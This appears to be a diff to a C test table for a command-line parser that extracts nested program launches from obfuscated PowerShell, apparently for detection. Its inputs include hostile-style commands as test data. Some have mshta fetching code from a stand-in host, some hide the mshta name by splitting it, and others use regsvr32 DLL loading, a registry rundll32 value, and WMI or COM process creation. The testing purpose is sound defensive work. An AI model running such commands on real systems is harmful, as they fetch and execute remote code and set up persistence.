@@ -278,7 +278,7 @@ static const struct {
      "/c whoami\"",
      NULL,
      "powershell.exe N:<& 'C:\\Windows\\System32\\msh'+'ta.exe' 'https://h.example/a'; Get-Date | "
-     "cmd /c whoami> n:<\"C:\\Windows\\System32\\mshta.exe\" \"https://h.example/a\"> N:<cmd /c "
+     "cmd /c whoami> n:<C:\\Windows\\System32\\mshta.exe https://h.example/a> N:<cmd /c "
      "whoami>"},
     {"powershell -File C:\\x.ps1 -c foo", NULL, "powershell.exe /file=C:\\x.ps1"},
     {"powershell \342\200\223nop \342\200\223c reg`svr32 /s C:\\x\\a.dll", NULL,
@@ -288,11 +288,32 @@ static const struct {
      "powershell.exe N:<iex 'mshta https://h.example/a'> n:<mshta https://h.example/a>"},
     /* other launchers */
     {"powershell \"& (\\\"{1}{0}\\\" -f 'ta','msh') https://h.example/a\"", NULL,
-     "powershell.exe n:<& (\"{1}{0}\" -f 'ta','msh') https://h.example/a> n:<\"mshta\" "
+     "powershell.exe n:<& (\"{1}{0}\" -f 'ta','msh') https://h.example/a> n:<mshta "
      "https://h.example/a>"},
     {"powershell -c \"& ('msh'+'ta') 'https://h.example/a'\"", NULL,
-     "powershell.exe /command N:<& ('msh'+'ta') 'https://h.example/a'> n:<\"mshta\" "
-     "\"https://h.example/a\">"},
+     "powershell.exe /command N:<& ('msh'+'ta') 'https://h.example/a'> n:<mshta "
+     "https://h.example/a>"},
+    /* calls that start a program, or write down what is to be started */
+    {"powershell [Diagnostics.Process]::Start('mshta','https://h.example/a')", NULL,
+     "powershell.exe N:<[Diagnostics.Process]::Start('mshta','https://h.example/a')> n:<mshta "
+     "https://h.example/a>"},
+    {"powershell -c $x=New-ScheduledTaskAction -Execute 'C:\\a b\\c.exe' -Argument '/x y'", NULL,
+     "powershell.exe /command N:<$x=New-ScheduledTaskAction -Execute 'C:\\a b\\c.exe' -Argument "
+     "'/x y'> "
+     "n:<\"C:\\a b\\c.exe\" /x y>"},
+    {"powershell -c (New-Object -ComObject WScript.Shell).Run('mshta a',0)", NULL,
+     "powershell.exe /command N:<(New-Object -ComObject WScript.Shell).Run('mshta a',0)> n:<mshta "
+     "a>"},
+    {"powershell -c icim -ClassName Win32_Process -Method Create -Arg @{CommandLine='mshta a'}",
+     NULL,
+     "powershell.exe /command N:<icim -ClassName Win32_Process -Method Create -Arg "
+     "@{CommandLine='mshta a'}> n:<mshta a>"},
+    {"powershell ([wmiclass]'Win32_Process').Create('mshta a')", NULL,
+     "powershell.exe N:<([wmiclass]'Win32_Process').Create('mshta a')> n:<mshta a>"},
+    {"powershell [IO.File]::Create('mshta a')", NULL,
+     "powershell.exe N:<[IO.File]::Create('mshta a')>"},
+    {"powershell sp HKCU:\\a -Name b -Value 'rundll32 a.dll,b'", NULL,
+     "powershell.exe N:<sp HKCU:\\a -Name b -Value 'rundll32 a.dll,b'> n:<rundll32 a.dll,b>"},
     {"powershell -c saps regsvr32.exe -a '/s','C:\\x\\a.dll'\"", NULL,
      "powershell.exe /command n:<saps regsvr32.exe -a '/s','C:\\x\\a.dll'> n:<regsvr32.exe /s "
      "C:\\x\\a.dll>"},
